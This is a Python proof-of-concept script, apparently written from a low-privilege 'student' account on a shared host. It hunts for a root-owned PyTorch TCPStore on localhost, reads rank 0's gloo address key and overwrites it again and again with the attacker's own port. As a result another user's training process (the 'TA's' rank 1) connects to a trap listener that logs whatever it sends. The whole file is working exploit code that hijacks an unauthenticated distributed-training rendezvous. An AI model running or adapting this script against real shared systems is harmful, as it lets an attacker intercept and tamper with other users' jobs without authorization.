"""a04c (student side, uid 65534): as soon as a new 127.0.0.1 listener of uid 0 answers as a TCPStore, overwrite rank
0's gloo address ('0//cpu//0/0') with the same bytes but another port, over and over, so that the TA's rank 1 pairs
with a port of ours (a plain listener that logs what the TA's rank sends it)."""
import sys, time, os, threading, datetime, socket, struct
os.environ["TORCH_CPP_LOG_LEVEL"] = "FATAL"
import torch.distributed as dist
t0 = time.time()
def log(*a): print(f"{time.time()-t0:.3f}s", *a, flush=True)
def listeners():
    out = []
    for line in open("/proc/net/tcp").read().splitlines()[1:]:
        f = line.split()
        if f[3] == "0A" and int(f[7]) == 0 and f[1].startswith("0100007F"):
            out.append(int(f[1].split(":")[1], 16))
    return out
trap = socket.socket(); trap.bind(("127.0.0.1", 0)); trap.listen(16); TRAP = trap.getsockname()[1]
def serve():
    while True:
        c, a = trap.accept(); c.settimeout(5)
        try: data = c.recv(4096)
        except Exception: data = b"?"
        log("TRAP: the TA's rank connected to us from", a, "and sent", data[:64])
threading.Thread(target=serve, daemon=True).start()
KEY = "0//cpu//0/0"
def spoil(port):
    try:
        s = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=datetime.timedelta(seconds=3), wait_for_workers=False)
    except Exception:
        log("port", port, "not a store"); return
    log("port", port, "is a store")
    s.wait([KEY]); real = s.get(KEY)
    fake = bytearray(real)
    i = real.find(b"\x02\x00", 16)  # sockaddr_in: family 2, then the port (big endian)
    fake[i + 2:i + 4] = struct.pack(">H", TRAP)
    log("rank 0's address read; port", struct.unpack(">H", real[i+2:i+4])[0], "-> ours", TRAP)
    n = 0; end = time.time() + 15
    try:
        while time.time() < end:
            s.set(KEY, bytes(fake)); n += 1
    except Exception as e:
        log("store gone:", type(e).__name__)
    log("overwrote", n, "times")
before = set(listeners()); seen = set()
while time.time() - t0 < float(sys.argv[1]):
    for port in listeners():
        if port in seen or port in before: continue
        seen.add(port)
        threading.Thread(target=spoil, args=(port,), daemon=True).start()
    time.sleep(0.001)
